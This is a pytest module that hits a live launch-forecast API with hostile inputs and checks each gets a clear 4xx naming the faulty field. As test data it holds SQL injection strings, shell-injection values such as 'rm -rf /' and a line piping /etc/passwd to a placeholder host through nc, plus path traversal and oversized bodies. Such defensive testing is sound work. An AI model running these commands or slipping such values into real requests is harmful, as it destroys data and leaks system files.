"""2. Hostile input: a table of bad requests against a live server, each a clear 4xx.

Every request in the table goes over TCP to a real ``tminus serve``: wrong types, NaN and
infinities as raw JSON tokens, huge numbers, dates out of range, empty and oversized batches,
a 10 MB body, a body over the 16 MiB limit, deeply nested JSON, unicode look-alike names,
unknown fields, SQL and shell metacharacters. Each must get the expected 4xx with the
service's JSON error body, ``{"detail": [{"loc", "msg", "type"}]}``, whose ``loc`` names the
field at fault, and no echo of a big input. Afterwards the server is still healthy, still
predicts, and has answered no request of the whole session with a 5xx.
"""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest

from .live import ADMIN_KEY, Figures, Server

LF = "/v1/launch-failure"
BL = "/v1/booster-landing"
PT = "/v1/pad-turnaround"
RTF = "/v1/return-to-flight"
WX = "/v1/weather-scrub"
ITEMS = {
    LF: {"vehicle": "Falcon 9", "date": "2026-03-01"},
    BL: {"date": "2026-03-01", "landing_type": "ASDS"},
    PT: {"pad": "LC39A", "date": "2026-03-01"},
    RTF: {"vehicle": "Falcon 9", "date": "2026-03-01"},
    WX: {"date": "2026-03-01", "max_peak_wind": 18.0},
}
MAX_BODY = 16 * 1024 * 1024
# An error answer stays small whatever was sent: inputs are echoed cut short or not at all.
MAX_ERROR_BYTES = 8_000


def _launch(**fields: Any) -> bytes:
    return json.dumps({"vehicle": "Falcon 9", "date": "2026-03-01", **fields}).encode()


def _raw(template: str, token: str) -> bytes:
    """JSON with a raw token (NaN, Infinity, 1e999) that ``json.dumps`` would not write."""
    return template.replace("TOKEN", token).encode()


def _batch(path: str, count: int) -> Callable[[], bytes]:
    return lambda: json.dumps({"items": [ITEMS[path]] * count}).encode()


def _ten_megabyte_batch() -> bytes:
    # 10,000 items whose vehicle names are ~1 KB each: 10 MB, under the limit, all invalid.
    return json.dumps({"items": [{"vehicle": "V" * 1_000, "date": "2026-03-01"}] * 10_000}).encode()


def _chunks(size: int) -> Iterator[bytes]:
    block = b" " * (1 << 20)
    yield b'{"items": ['
    for _ in range(size // len(block)):
        yield block
    yield b"]}"


@dataclass(frozen=True)
class Hostile:
    """One hostile request and the answer it must get."""

    path: str
    body: bytes | Callable[[], bytes] | None
    status: int
    loc: list[str | int]  # some problem's loc must be exactly this
    method: str = "POST"
    headers: dict[str, str] = field(default_factory=lambda: {"content-type": "application/json"})
    msg: str = ""  # a regex the problem's msg must match
    chunked: bool = False

    def content(self) -> bytes | Iterator[bytes] | None:
        if self.chunked:
            return _chunks(MAX_BODY + (1 << 20))
        return self.body() if callable(self.body) else self.body


NAN = '{"vehicle": "Falcon 9", "date": "2026-03-01", "payload_mass_kg": TOKEN}'
CORE = '{"date": "2026-03-01", "landing_type": "ASDS", "core_flight": TOKEN}'
WIND = '{"date": "2026-03-01", "max_peak_wind": TOKEN}'
KEY = {"content-type": "application/json", "X-API-Key": ADMIN_KEY}

CASES: dict[str, Hostile] = {
    # ---- wrong types --------------------------------------------------------------------
    "vehicle is a number": Hostile(LF, _launch(vehicle=9), 422, ["body", "vehicle"]),
    "vehicle is a list": Hostile(LF, _launch(vehicle=["Falcon 9"]), 422, ["body", "vehicle"]),
    "vehicle is null": Hostile(LF, _launch(vehicle=None), 422, ["body", "vehicle"]),
    "date is a unix time": Hostile(LF, _launch(date=1_772_323_200), 422, ["body", "date"]),
    "items is an object": Hostile(
        LF, b'{"items": {"vehicle": "Falcon 9"}}', 422, ["body", "items"]
    ),
    "body is an array": Hostile(LF, b"[]", 422, ["body"]),
    "body is a string": Hostile(LF, b'"Falcon 9"', 422, ["body"]),
    "core_flight is a word": Hostile(
        BL, _raw(CORE, '"twelve"'), 422, ["body", "core_flight"], msg="integer"
    ),
    "block is a fraction": Hostile(
        BL, b'{"date": "2026-03-01", "landing_type": "ASDS", "block": 5.5}', 422, ["body", "block"]
    ),
    "JSON sent as text/plain": Hostile(
        LF, _launch(), 422, ["body"], headers={"content-type": "text/plain"}, msg="application/json"
    ),
    # ---- NaN and infinities (raw JSON tokens), huge numbers -------------------------------
    "NaN": Hostile(LF, _raw(NAN, "NaN"), 422, ["body", "payload_mass_kg"], msg="finite"),
    "Infinity": Hostile(LF, _raw(NAN, "Infinity"), 422, ["body", "payload_mass_kg"], msg="finite"),
    "-Infinity": Hostile(LF, _raw(NAN, "-Infinity"), 422, ["body", "payload_mass_kg"]),
    "1e999 overflows to infinity": Hostile(
        LF, _raw(NAN, "1e999"), 422, ["body", "payload_mass_kg"]
    ),
    "NaN wind": Hostile(WX, _raw(WIND, "NaN"), 422, ["body", "max_peak_wind"], msg="finite"),
    "Infinity flight number": Hostile(BL, _raw(CORE, "Infinity"), 422, ["body", "core_flight"]),
    "NaN date": Hostile(
        LF, _raw('{"vehicle": "Falcon 9", "date": TOKEN}', "NaN"), 422, ["body", "date"]
    ),
    "NaN in a plan": Hostile(
        "/v1/plan", b'{"payload_mass_kg": NaN}', 422, ["body", "payload_mass_kg"], msg="finite"
    ),
    "1e308 kg": Hostile(LF, _raw(NAN, "1e308"), 422, ["body", "payload_mass_kg"], msg="300000"),
    "a 400-digit flight number": Hostile(BL, _raw(CORE, "9" * 400), 422, ["body", "core_flight"]),
    "a 5000-digit number": Hostile(LF, _raw(NAN, "9" * 5_000), 400, ["body"], msg="JSON"),
    # ---- dates out of range -----------------------------------------------------------------
    "1900": Hostile(LF, _launch(date="1900-01-01"), 422, ["body", "date"], msg="1957-01-01"),
    "2101": Hostile(LF, _launch(date="2101-01-01"), 422, ["body", "date"], msg="2100-12-31"),
    "year 1": Hostile(LF, _launch(date="0001-01-01"), 422, ["body", "date"]),
    "past year 9999 in UTC": Hostile(
        LF, _launch(date="9999-12-31T23:00:00-05:00"), 422, ["body", "date"]
    ),
    "year 10000": Hostile(LF, _launch(date="10000-01-01"), 422, ["body", "date"]),
    "February 30": Hostile(LF, _launch(date="2026-02-30"), 422, ["body", "date"], msg="ISO 8601"),
    "month 13": Hostile(LF, _launch(date="2026-13-01"), 422, ["body", "date"]),
    "hour 25": Hostile(LF, _launch(date="2026-03-01T25:00"), 422, ["body", "date"]),
    "empty date": Hostile(LF, _launch(date=""), 422, ["body", "date"]),
    "last item of a full batch out of range": Hostile(
        LF,
        lambda: json.dumps(
            {"items": [ITEMS[LF]] * 9_999 + [{**ITEMS[LF], "date": "2101-03-01"}]}
        ).encode(),
        422,
        ["body", "items", 9_999, "date"],
    ),
    # ---- empty and oversized batches, big bodies --------------------------------------------
    "empty batch": Hostile(LF, b'{"items": []}', 422, ["body", "items"], msg="at least 1"),
    "empty body": Hostile(LF, b"", 422, ["body"]),
    "empty object": Hostile(LF, b"{}", 422, ["body", "vehicle"], msg="required"),
    **{
        f"10,001 items to {path}": Hostile(
            path, _batch(path, 10_001), 422, ["body", "items"], msg="10000"
        )
        for path in ITEMS
    },
    "a 10 MB string": Hostile(
        LF, lambda: _launch(orbit="x" * 10_000_000), 422, ["body", "orbit"], msg="at most 32"
    ),
    "a 10 MB batch of bad items": Hostile(
        LF, _ten_megabyte_batch, 422, ["body", "items", 0, "vehicle"]
    ),
    "17 MiB with Content-Length": Hostile(
        LF,
        lambda: b'{"items": [' + b" " * (MAX_BODY + (1 << 20)) + b"]}",
        413,
        ["body"],
        msg="limit",
    ),
    "17 MiB chunked": Hostile(LF, None, 413, ["body"], msg="limit", chunked=True),
    "17 MiB to a route without a body": Hostile(
        "/healthz", lambda: b" " * (MAX_BODY + 1), 413, ["body"], method="GET"
    ),
    # ---- deeply nested JSON -------------------------------------------------------------
    "100,000 nested lists": Hostile(
        LF, b'{"items": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", 400, ["body"]
    ),
    "50,000 nested objects": Hostile(LF, b'{"a": ' * 50_000 + b"1" + b"}" * 50_000, 400, ["body"]),
    "500 nested lists in items": Hostile(
        LF, b'{"items": ' + b"[" * 500 + b"]" * 500 + b"}", 422, ["body", "items", 0]
    ),
    # ---- unicode look-alikes and unreadable text --------------------------------------------
    "Cyrillic a in Falcon 9": Hostile(
        LF, _launch(vehicle="F\u0430lcon 9"), 422, ["body", "vehicle"], msg="Falcon 9|did you mean"
    ),
    "fullwidth 9 in Falcon 9": Hostile(
        LF, _launch(vehicle="Falcon \uff19"), 422, ["body", "vehicle"]
    ),
    "Greek omicron in Falcon 9": Hostile(
        LF, _launch(vehicle="Falc\u03bfn 9"), 422, ["body", "vehicle"]
    ),
    "Cyrillic Falcon 9 after a failure": Hostile(
        RTF,
        json.dumps({"vehicle": "F\u0430lcon 9", "date": "2026-03-01"}).encode(),
        422,
        ["body", "vehicle"],
    ),
    "fullwidth digit in a pad": Hostile(
        PT, json.dumps({"pad": "LC\uff140", "date": "2026-03-01"}).encode(), 422, ["body", "pad"]
    ),
    "zero-width space in Falcon 9": Hostile(
        LF, _launch(vehicle="Falcon\u200b 9"), 422, ["body", "vehicle"], msg="invisible"
    ),
    "right-to-left override in a pad": Hostile(
        PT,
        json.dumps({"pad": "\u202eLC40", "date": "2026-03-01"}).encode(),
        422,
        ["body", "pad"],
        msg="invisible",
    ),
    "NUL in a name": Hostile(
        LF, _launch(vehicle="Falcon\u0000 9"), 422, ["body", "vehicle"], msg="control"
    ),
    "lone surrogate": Hostile(
        LF, b'{"vehicle": "\\ud800", "date": "2026-03-01"}', 422, ["body", "vehicle"]
    ),
    "not UTF-8": Hostile(
        LF, b'{"vehicle": "\xff\xfe", "date": "2026-03-01"}', 400, ["body"], msg="UTF-8"
    ),
    # ---- unknown fields -------------------------------------------------------------------
    "misspelt field": Hostile(
        LF, _launch(vehical="Falcon 9"), 422, ["body", "vehical"], msg="did you mean 'vehicle'"
    ),
    "unknown field in a batch item": Hostile(
        LF,
        json.dumps({"items": [{**ITEMS[LF], "colour": "red"}]}).encode(),
        422,
        ["body", "items", 0, "colour"],
    ),
    "a field beside items": Hostile(
        LF,
        json.dumps({"items": [ITEMS[LF]], "vehicle": "x"}).encode(),
        422,
        ["body", "vehicle"],
        msg="allowed fields: items",
    ),
    "__proto__": Hostile(
        LF,
        b'{"vehicle": "Falcon 9", "date": "2026-03-01", "__proto__": {"admin": true}}',
        422,
        ["body", "__proto__"],
    ),
    # ---- SQL and shell metacharacters where the value is checked -------------------------
    "SQL in a date": Hostile(
        LF, _launch(date="2026-03-01'; DROP TABLE launches;--"), 422, ["body", "date"]
    ),
    "shell in a landing type": Hostile(
        BL,
        b'{"date": "2026-03-01", "landing_type": "ASDS; rm -rf /"}',
        422,
        ["body", "landing_type"],
        msg="ASDS",
    ),
    "shell in a pad": Hostile(
        PT,
        json.dumps({"pad": "LC39A; rm -rf /", "date": "2026-03-01"}).encode(),
        422,
        ["body", "pad"],
    ),
    "backticks in a site": Hostile(
        PT,
        json.dumps({"pad": "LC39A", "site": "KSC`id`", "date": "2026-03-01"}).encode(),
        422,
        ["body", "site"],
    ),
    "shell in a site with a pad": Hostile(
        LF, _launch(site="CC; rm -rf /", pad="LC40"), 422, ["body", "site"]
    ),
    "shell in a model name": Hostile(
        "/v1/models/launch_failure%3Brm%20-rf%20~", None, 422, ["path", "name"], method="GET"
    ),
    "SQL in a version query": Hostile(
        "/v1/models/launch_failure/card?version=1%27%20OR%201%3D1",
        None,
        422,
        ["query", "version"],
        method="GET",
    ),
    "path traversal in a file name": Hostile(
        "/v1/models/launch_failure/versions/20260101T000000000000Z-0000/files/..%2F..%2Fetc%2Fpasswd",
        None,
        404,
        ["path"],
        method="GET",
    ),
    "shell in a tool name": Hostile("/v1/tools/$(id)", b"{}", 404, ["path", "name"]),
    "shell in an alias": Hostile(
        "/v1/models/launch_failure/aliases/champion;rm",
        b'{"version": "x"}',
        422,
        ["path", "alias"],
        method="PUT",
        headers=KEY,
    ),
    "SQL in a version id": Hostile(
        "/v1/models/launch_failure/aliases/champion",
        b'{"version": "20261129T091621052982Z-7f4d\' OR 1=1"}',
        422,
        ["body", "version"],
        method="PUT",
        headers=KEY,
    ),
}


@pytest.fixture(scope="module")
def client(live_server: Server) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=live_server.url, timeout=60.0) as session:
        yield session


@pytest.fixture(scope="module")
def tally() -> Counter[int]:
    """Statuses of every hostile request of this module."""
    return Counter()


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_a_hostile_request_gets_a_clear_4xx_naming_the_field(
    client: httpx.Client, tally: Counter[int], case: Hostile
) -> None:
    answer = client.request(case.method, case.path, content=case.content(), headers=case.headers)
    tally[answer.status_code] += 1
    assert answer.status_code == case.status, answer.text[:500]
    assert answer.headers["content-type"] == "application/json", answer.text[:200]
    assert len(answer.content) < MAX_ERROR_BYTES, answer.text[:300]
    problems = answer.json()["detail"]
    assert problems and all({"loc", "msg", "type"} <= set(p) for p in problems), problems
    for problem in problems:  # inputs are echoed cut short (100 characters) or not at all
        assert len(json.dumps(problem.get("input"))) <= 110, problem
    named = [p for p in problems if p["loc"] == case.loc]
    assert named, f"no problem located at {case.loc}: {problems}"
    assert re.search(case.msg, named[0]["msg"]), named[0]


@pytest.mark.parametrize(
    "name",
    ["Falcon 9' OR 1=1; DROP TABLE launches;--", "$(rm -rf /)", "`id`; cat /etc/passwd | nc x 1"],
)
def test_metacharacters_in_a_name_are_refused(
    client: httpx.Client, tally: Counter[int], name: str
) -> None:
    """No vehicle name has quotes, semicolons, pipes, backticks or dollar signs: such a name
    is refused, naming the field and what names are made of; it is never looked up."""
    answer = client.post(LF, json={"vehicle": name, "date": "2026-03-01"})
    tally[answer.status_code] += 1
    assert answer.status_code == 422, answer.text[:300]
    problem = answer.json()["detail"][0]
    assert problem["loc"] == ["body", "vehicle"]
    assert problem["msg"].startswith("must be a plain name: letters and digits")


def test_after_the_corpus_the_server_is_healthy_and_never_answered_a_5xx(
    live_server: Server, client: httpx.Client, tally: Counter[int], figures: Figures
) -> None:
    assert client.get("/healthz").json() == {"status": "ok"}
    assert client.get("/readyz").status_code == 200
    answer = client.post(LF, json=ITEMS[LF])
    assert answer.status_code == 200, answer.text[:300]
    assert 0 <= answer.json()["probability"] <= 1
    metrics = client.get("/metrics").text
    server_errors = sum(
        float(value)
        for value in re.findall(
            r'^tminus_requests_total\{[^}]*status="5\d\d"[^}]*\} (\S+)$', metrics, re.M
        )
    )
    assert live_server.process.poll() is None, live_server.output()
    sent = sum(tally.values())
    figures.add(
        f"{sent} hostile requests ({len(CASES)} table rows + metacharacter names): "
        + ", ".join(f"{s}: {n}" for s, n in sorted(tally.items()))
        + f"; the live server's 5xx count over the whole session: {server_errors:.0f}"
    )
    assert server_errors == 0
    assert sent == len(CASES) + 3
